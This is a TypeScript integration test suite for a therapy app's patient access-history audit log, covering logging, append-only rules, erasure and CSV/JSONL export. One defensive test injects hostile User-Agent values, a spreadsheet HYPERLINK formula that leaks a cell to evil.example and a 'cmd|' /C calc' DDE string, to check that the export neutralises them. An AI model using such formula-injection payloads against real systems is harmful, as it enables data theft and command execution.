import { MSG, type AccessHistoryItem } from '@consulta/shared';
import { API, api, bearer, createPatient, sql, therapistSession, type AppTarget, type Session } from './support/api';
import { startAiApp, type AiApp } from './support/ai-app';
import { DRAFTS, MISSING_ID, createDraft, createSession, putDraft, signedInPatient } from './support/clinical';
import { testEnv } from './support/env';
import { startOpenAiPeer, type OpenAiPeer } from './support/openai-peer';
import { runCli } from './support/processes';
import { postEventStream } from './support/sse';
import { expectProblem, uploadVideo } from './support/storage';

/**
 * The access history (issue 17): every clinical read and write leaves an entry (who, which patient, what, when,
 * from where, result) before its answer goes; append-only; erased with the patient; the therapist reads a
 * patient's history, the operator exports it.
 */

type Row = { kind: string; action: string; success: boolean; status: number; actor_role: string; actor_id: string | null; path: string };

const UA = 'Navegador de prueba/1.0';
const as = (who: Session, t: Pick<AppTarget, 'appUrl'> = testEnv()) => ({
  get: (path: string) => api(t).get(`${API}${path}`).set(bearer(who.token)).set('user-agent', UA),
  post: (path: string, body: object = {}) => api(t).post(`${API}${path}`).set(bearer(who.token)).set('user-agent', UA).send(body),
  patch: (path: string, body: object) => api(t).patch(`${API}${path}`).set(bearer(who.token)).set('user-agent', UA).send(body),
  put: (path: string, body: object) => api(t).put(`${API}${path}`).set(bearer(who.token)).set('user-agent', UA).send(body),
  delete: (path: string) => api(t).delete(`${API}${path}`).set(bearer(who.token)).set('user-agent', UA),
});

const entriesOf = (patientId: string, target: Pick<AppTarget, 'databaseUrl'> = testEnv()) =>
  sql<Row>(
    'select kind, action, success, status, actor_role, actor_id::text, path from access_history where patient_id = $1 order by id',
    [patientId],
    target,
  );
const pairs = (rows: Row[]) => rows.map((r) => `${r.kind}:${r.action}`);

/** Runs `call` and answers the entries it added for `patientId`. */
async function added(patientId: string, call: () => Promise<unknown>): Promise<Row[]> {
  const before = (await entriesOf(patientId)).length;
  await call();
  return (await entriesOf(patientId)).slice(before);
}

describe('access history: recording', () => {
  let me: Session;
  let patient: Session & { patientId: string };
  let id: string;
  beforeAll(async () => {
    me = await therapistSession('Dra. Historial');
    patient = await signedInPatient(me);
    id = patient.patientId;
  });

  it('records the patient record: creation, reads and update, with who, from where and the result', async () => {
    const created = await createPatient(me);
    // The test helper records the recording and AI consents right after creating the patient.
    expect(pairs(await entriesOf(created.id))).toEqual(['ficha:creacion', 'consentimiento:creacion', 'consentimiento:creacion']);
    expect(pairs(await added(id, () => as(me).get(`/pacientes/${id}`).expect(200)))).toEqual(['ficha:lectura']);
    expect(pairs(await added(id, () => as(me).get(`/pacientes/unified/${id}`).expect(200)))).toEqual(['ficha:lectura']);
    const [update] = await added(id, () => as(me).patch(`/pacientes/${id}`, { profesion_ocupacion: 'Docente' }).expect(200));
    expect(update).toMatchObject({
      kind: 'ficha',
      action: 'modificacion',
      success: true,
      status: 200,
      actor_role: 'terapeuta',
      actor_id: me.id,
    });
    const [where] = await sql('select ip, user_agent, occurred_at from access_history where patient_id = $1 order by id desc limit 1', [
      id,
    ]);
    expect(where.user_agent).toBe(UA);
    expect(String(where.ip)).toMatch(/127\.0\.0\.1|::1/);
  });

  it('records a refused request on an own patient as a failure (400 after the access check)', async () => {
    const [failed] = await added(id, () => as(me).patch(`/pacientes/${id}`, {}).expect(400));
    expect(failed).toMatchObject({ kind: 'ficha', action: 'modificacion', success: false, status: 400 });
  });

  it('records sessions: list, create, read, update, delete, and the video download', async () => {
    const video = await uploadVideo(testEnv(), me, id);
    let sessionId = '';
    const rows = await added(id, async () => {
      await as(me).get(`/sesiones/paciente/${id}`).expect(200);
      sessionId = (await createSession(me, id, { video_url: video })).id;
      await as(me).get(`/sesiones/${sessionId}`).expect(200);
      await as(me).patch(`/sesiones/${sessionId}`, { notas: 'Otra nota' }).expect(200);
      await as(me).put(`/sesiones/${sessionId}`, { observaciones: 'Observación' }).expect(200);
      await as(me).get(`/sesiones/${sessionId}/download-video`).expect(200);
      await as(me).post('/aws-s3/download-url', { file_key: video }).expect(200);
    });
    expect(pairs(rows)).toEqual([
      'sesion:lectura',
      'sesion:creacion',
      'sesion:lectura',
      'sesion:modificacion',
      'sesion:modificacion',
      'archivo:lectura',
      'archivo:lectura',
    ]);
    expect(rows.every((r) => r.success)).toBe(true);
    expect(rows[1].status).toBe(201);
    // The patient's own reads: the video and the session, with the patient as the actor.
    const own = await added(id, async () => {
      await as(patient).get('/sesiones/paciente/mis-sesiones').expect(200);
      await as(patient).get(`/sesiones/paciente/sesion/${sessionId}`).expect(200);
      await as(patient).get(`/sesiones/paciente/sesion/${sessionId}/download-video`).expect(200);
    });
    expect(pairs(own)).toEqual(['sesion:lectura', 'sesion:lectura', 'archivo:lectura']);
    expect(own.every((r) => r.actor_role === 'paciente' && r.actor_id === patient.id)).toBe(true);
    expect(pairs(await added(id, () => as(me).delete(`/sesiones/${sessionId}`).expect(200)))).toEqual(['sesion:eliminacion']);
  });

  it('records drafts, and the transcription and analysis starts (refused here: no AI provider) as failures of that patient', async () => {
    let draftId = '';
    const rows = await added(id, async () => {
      draftId = (await createDraft(me, id, { notas: 'Borrador' })).id;
      await as(me).get(`/sesiones-asincronas/drafts/${draftId}`).expect(200);
      await as(me).get(`/sesiones-asincronas/drafts/paciente/${id}`).expect(200);
      await putDraft(me, draftId, { notas: 'Borrador 2' }).expect(200);
      await as(me).post(`/sesiones-asincronas/start-transcription/${draftId}`).expect(503);
      await as(me).post(`/sesiones-asincronas/start-analysis/${draftId}`).expect(503);
      await as(me).get(`/sesiones-asincronas/progress/${draftId}`).expect(200);
      await as(me)
        .delete(`${DRAFTS.replace(API, '')}/${draftId}`)
        .expect(200);
    });
    expect(pairs(rows)).toEqual([
      'borrador:creacion',
      'borrador:lectura',
      'borrador:lectura',
      'borrador:modificacion',
      'transcripcion:creacion',
      'analisis:creacion',
      'borrador:eliminacion',
    ]);
    expect(rows.filter((r) => !r.success).map((r) => r.status)).toEqual([503, 503]);
  });

  it('records the exercises and the patient area reads', async () => {
    const exercise = (await as(me).post('/ejercicios/', { titulo: 'Respiración' }).expect(201)).body;
    const rows = await added(id, async () => {
      await as(me).post('/paciente-ejercicios/', { paciente_id: id, ejercicio_id: exercise.id }).expect(201);
      await as(me).get(`/paciente-ejercicios/pacientes/${id}/ejercicios/unified`).expect(200);
      await as(patient).get('/paciente-ejercicios/mis-ejercicios').expect(200);
      await as(patient).get('/pacientes/paciente/dashboard').expect(200);
      await as(patient).get('/pacientes/perfil').expect(200);
    });
    expect(pairs(rows)).toEqual(['ejercicios:creacion', 'ejercicios:lectura', 'ejercicios:lectura', 'ficha:lectura', 'ficha:lectura']);
    expect(rows.map((r) => r.actor_role)).toEqual(['terapeuta', 'terapeuta', 'paciente', 'paciente', 'paciente']);
  });

  it('records the consents: read, recorded and revoked, by the therapist and by the patient', async () => {
    const rows = await added(id, async () => {
      await as(me).get(`/pacientes/consentimientos/${id}`).expect(200);
      await as(patient).get('/pacientes/perfil/consentimientos').expect(200);
      await as(patient).post('/pacientes/perfil/consentimientos/ia/revocar').send({}).expect(200);
      await as(me).post(`/pacientes/consentimientos/${id}`).send({ tipo: 'ia', forma: 'verbal' }).expect(201);
    });
    expect(pairs(rows)).toEqual([
      'consentimiento:lectura',
      'consentimiento:lectura',
      'consentimiento:modificacion',
      'consentimiento:creacion',
    ]);
    expect(rows.map((r) => r.actor_role)).toEqual(['terapeuta', 'paciente', 'paciente', 'terapeuta']);
  });

  it("keeps cross-account attempts out of the owner's history: recorded without a patient, for the operator", async () => {
    const other = await therapistSession('Otra Terapeuta');
    const otherPatient = await signedInPatient(other);
    const session = await createSession(me, id);
    const before = (await entriesOf(id)).length;
    await as(other).get(`/pacientes/${id}`).expect(404);
    await as(other).get(`/sesiones/${session.id}`).expect(404);
    await as(otherPatient).get(`/sesiones/paciente/sesion/${session.id}`).expect(404);
    await as(patient).get(`/sesiones/${session.id}`).expect(403); // wrong role: refused before the route
    expect(await entriesOf(id)).toHaveLength(before);
    const attempts = await sql<Row>(
      'select kind, success, status, path from access_history where patient_id is null and actor_id = $1 order by id',
      [other.id],
    );
    expect(attempts.map((r) => [r.path, r.status, r.success])).toEqual([
      [`${API}/pacientes/${id}`, 404, false],
      [`${API}/sesiones/${session.id}`, 404, false],
    ]);
    // The other patient reached only themself (the patient area's access check): the failed read is in their own history.
    const theirs = await entriesOf(otherPatient.patientId);
    expect(theirs.at(-1)).toMatchObject({ kind: 'sesion', action: 'lectura', success: false, status: 404, actor_id: otherPatient.id });
  });
});

describe('access history: the therapist reads it', () => {
  let me: Session;
  let patient: Session & { patientId: string };
  beforeAll(async () => {
    me = await therapistSession('Dra. Lectora');
    patient = await signedInPatient(me);
    await as(me).get(`/pacientes/${patient.patientId}`).expect(200);
    await createSession(me, patient.patientId);
    await as(patient).get('/pacientes/perfil').expect(200);
  });
  const history = (who: Session, patientId: string, query = '') => as(who).get(`/pacientes/historial-accesos/${patientId}${query}`);

  it('lists the entries newest first, with who, what, when, from where and the result, paged and filtered', async () => {
    const all = await history(me, patient.patientId).expect(200);
    const items = all.body as AccessHistoryItem[];
    expect(items.slice(0, 3).map((i) => [i.tipo, i.accion, i.usuario_rol])).toEqual([
      ['ficha', 'lectura', 'paciente'],
      ['sesion', 'creacion', 'terapeuta'],
      ['ficha', 'lectura', 'terapeuta'],
    ]);
    expect(items[1]).toMatchObject({ usuario_nombre: 'Dra. Lectora', exito: true, estado_http: 201 });
    expect(items[2]).toMatchObject({ usuario_nombre: 'Dra. Lectora', agente: UA, exito: true, estado_http: 200 });
    expect(items[2].ip).toMatch(/127\.0\.0\.1|::1/);
    expect(items[1].fecha).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/);
    const page = await history(me, patient.patientId, `?range=${encodeURIComponent('[1,1]')}`).expect(200);
    expect(page.body).toEqual([items[1]]);
    expect(page.headers['content-range']).toBe(`historial-accesos 1-1/${items.length}`);
    const sessions = await history(me, patient.patientId, `?filter=${encodeURIComponent('{"tipo":"sesion"}')}`).expect(200);
    expect(sessions.body.map((i: AccessHistoryItem) => i.tipo)).toEqual(['sesion']);
    // Reading the history is not itself an entry.
    expect((await history(me, patient.patientId).expect(200)).body).toHaveLength(items.length);
  });

  it('refuses a bad filter with a Spanish detail', async () => {
    expectProblem(
      await history(me, patient.patientId, `?filter=${encodeURIComponent('{"tipo":"otra"}')}`),
      400,
      MSG.accessHistory.kindFilter,
    );
    expectProblem(await history(me, patient.patientId, `?filter=${encodeURIComponent('{"actor":"x"}')}`), 400);
  });

  it('is the owner’s only: another therapist and a missing or malformed id get 404, a patient 403', async () => {
    const other = await therapistSession('Otro Curioso');
    expectProblem(await history(other, patient.patientId), 404, MSG.patients.notFound);
    expectProblem(await history(me, MISSING_ID), 404, MSG.patients.notFound);
    expectProblem(await history(me, 'no-es-un-id'), 404, MSG.patients.notFound);
    expectProblem(await history(patient, patient.patientId), 403);
  });
});

describe('access history: append-only, erased with the patient, exported by the operator', () => {
  it('refuses updates and deletes of entries', async () => {
    const me = await therapistSession('Dra. Inmutable');
    const patient = await signedInPatient(me);
    await as(me).get(`/pacientes/${patient.patientId}`).expect(200);
    await expect(sql('update access_history set success = false where patient_id = $1', [patient.patientId])).rejects.toThrow(
      /append-only/,
    );
    await expect(sql('delete from access_history where patient_id = $1', [patient.patientId])).rejects.toThrow(/append-only/);
    expect((await entriesOf(patient.patientId)).length).toBeGreaterThan(0);
  });

  it("erases a patient's entries with the patient; the deletion itself stays for the operator, without the patient", async () => {
    const me = await therapistSession('Dra. Borradora');
    const patient = await signedInPatient(me);
    await as(me).get(`/pacientes/${patient.patientId}`).expect(200);
    await as(patient).get('/pacientes/perfil').expect(200);
    expect((await entriesOf(patient.patientId)).length).toBeGreaterThanOrEqual(2);
    await as(me).delete(`/pacientes/${patient.patientId}`).expect(200);
    expect(await entriesOf(patient.patientId)).toEqual([]);
    expect(await sql('select 1 from access_history where actor_id = $1', [patient.id])).toEqual([]);
    const [deletion] = await sql<Row>('select kind, action, success, path from access_history where patient_id is null and actor_id = $1', [
      me.id,
    ]);
    expect(deletion).toEqual({ kind: 'ficha', action: 'eliminacion', success: true, path: `${API}/pacientes/${patient.patientId}` });
  });

  it('exports a patient’s entries as JSON lines or CSV, and a date range; refuses bad options', async () => {
    const me = await therapistSession('Dra. Exportadora');
    const patient = await signedInPatient(me);
    await as(me).get(`/pacientes/${patient.patientId}`).expect(200);
    await as(me).patch(`/pacientes/${patient.patientId}`, { profesion_ocupacion: 'Docente' }).expect(200);
    const cli = (...args: string[]) =>
      runCli(['access-history:export', ...args], {
        DATABASE_URL: testEnv().databaseUrl,
        JWT_SECRET: testEnv().jwtSecret,
        NODE_ENV: 'test',
      });

    const jsonl = cli('--patient', patient.patientId);
    expect(jsonl.status).toBe(0);
    const lines = jsonl.stdout
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l));
    // The creation, the two consents the test helper records, the read and the update.
    expect(lines.map((l) => [l.tipo, l.accion, l.paciente_id, l.usuario_nombre])).toEqual([
      ['ficha', 'creacion', patient.patientId, 'Dra. Exportadora'],
      ['consentimiento', 'creacion', patient.patientId, 'Dra. Exportadora'],
      ['consentimiento', 'creacion', patient.patientId, 'Dra. Exportadora'],
      ['ficha', 'lectura', patient.patientId, 'Dra. Exportadora'],
      ['ficha', 'modificacion', patient.patientId, 'Dra. Exportadora'],
    ]);
    expect(lines[3]).toMatchObject({
      metodo: 'GET',
      ruta: `${API}/pacientes/${patient.patientId}`,
      estado_http: 200,
      exito: true,
      agente: UA,
    });

    const csv = cli('--patient', patient.patientId, '--format', 'csv');
    expect(csv.status).toBe(0);
    const rows = csv.stdout.trim().split('\n');
    expect(rows[0]).toBe(
      '"id","fecha","paciente_id","tipo","accion","usuario_id","usuario_nombre","usuario_rol","metodo","ruta","estado_http","exito","ip","agente"',
    );
    expect(rows).toHaveLength(6);
    expect(rows[4]).toContain(`,"GET","${API}/pacientes/${patient.patientId}","200","true",`);

    const future = cli('--from', '2999-01-01');
    expect(future.status).toBe(0);
    expect(future.stdout.trim()).toBe('');

    expect(cli('--patient', 'x').stderr).toContain('--patient: expected a patient id');
    expect(cli('--from', 'ayer').stderr).toContain('--from: expected an ISO 8601 date');
    expect(cli('--format', 'xml').stderr).toContain('--format: expected jsonl or csv');
  });

  it('writes a hostile User-Agent into the CSV as text a spreadsheet does not run', async () => {
    const me = await therapistSession('Dra. Hoja de Cálculo');
    const patient = await signedInPatient(me);
    const hostile = ['Mozilla/5.0;=HYPERLINK("http://evil.example/?"&A1)', "@SUM(1+1)*cmd|' /C calc'!A0", '-2+3'];
    for (const agent of hostile)
      await api().get(`${API}/pacientes/${patient.patientId}`).set(bearer(me.token)).set('user-agent', agent).expect(200);
    const csv = runCli(['access-history:export', '--patient', patient.patientId, '--format', 'csv'], {
      DATABASE_URL: testEnv().databaseUrl,
      JWT_SECRET: testEnv().jwtSecret,
      NODE_ENV: 'test',
    });
    expect(csv.status).toBe(0);
    const agents = csv.stdout
      .trim()
      .split('\n')
      .slice(-3)
      .map((row) => row.slice(row.lastIndexOf(',"') + 1));
    expect(agents).toEqual([`"Mozilla/5.0;'=HYPERLINK(""http://evil.example/?""&A1)"`, `"'@SUM(1+1)*cmd|' /C calc'!A0"`, `"'-2+3"`]);
    // Our own numbers stay numbers (the status), in quotes like every field.
    expect(csv.stdout).toContain(`,"GET","${API}/pacientes/${patient.patientId}","200","true",`);
  });
});

describe('access history: every clinical route is declared', () => {
  it('gives each patient-scoped route of the OpenAPI document an x-clinical-access declaration', async () => {
    const doc = (await api().get('/api/docs-json').expect(200)).body as {
      paths: Record<string, Record<string, { 'x-roles'?: string[]; 'x-clinical-access'?: unknown }>>;
    };
    const scoped =
      /^\/api\/v1\/(pacientes|sesiones|sesiones-asincronas|ai-agent|paciente-ejercicios|paciente-modulos|modulos\/paciente)(\/|$)|^\/api\/v1\/aws-s3\/(download-url|files\/)/;
    const undeclared: string[] = [];
    let declared = 0;
    for (const [path, operations] of Object.entries(doc.paths)) {
      for (const [method, op] of Object.entries(operations)) {
        // Patient-scoped by path, or callable by a patient (outside the sign-in routes).
        const patientRoute = (op['x-roles'] ?? []).includes('paciente') && !path.startsWith('/api/v1/auth/');
        if (!scoped.test(path) && !patientRoute) continue;
        if (op['x-clinical-access']) declared += 1;
        else undeclared.push(`${method.toUpperCase()} ${path}`);
      }
    }
    expect(undeclared).toEqual([]);
    expect(declared).toBeGreaterThan(50);
  });
});

describe('access history: the assistants (a real OpenAI-compatible peer)', () => {
  let peer: OpenAiPeer;
  let t: AiApp;
  beforeAll(async () => {
    peer = await startOpenAiPeer();
    t = await startAiApp('history', peer.url);
  });
  afterAll(async () => {
    await t?.close();
    await peer?.close();
  });

  it('records a chat about a patient, answered whole or streamed, and the patient’s own chat', async () => {
    const me = await therapistSession('Dra. Asistida', t);
    const patient = await signedInPatient(me, t);
    const id = patient.patientId;
    await as(me, t).post('/ai-agent/chat', { message: '¿Cómo va?', patient_id: id }).expect(200);
    const streamed = await postEventStream(`${t.appUrl}${API}/ai-agent/chat`, me.token, { message: '¿Y ahora?', patient_id: id });
    expect(streamed.status).toBe(200);
    await as(patient, t).post('/ai-agent/patient-chat', { message: 'Hola' }).expect(200);
    const rows = (await entriesOf(id, t)).filter((r) => r.kind === 'chat_ia');
    expect(rows.map((r) => [r.kind, r.action, r.actor_role, r.status, r.success])).toEqual([
      ['chat_ia', 'lectura', 'terapeuta', 200, true],
      ['chat_ia', 'lectura', 'terapeuta', 200, true],
      ['chat_ia', 'lectura', 'paciente', 200, true],
    ]);
  });
});
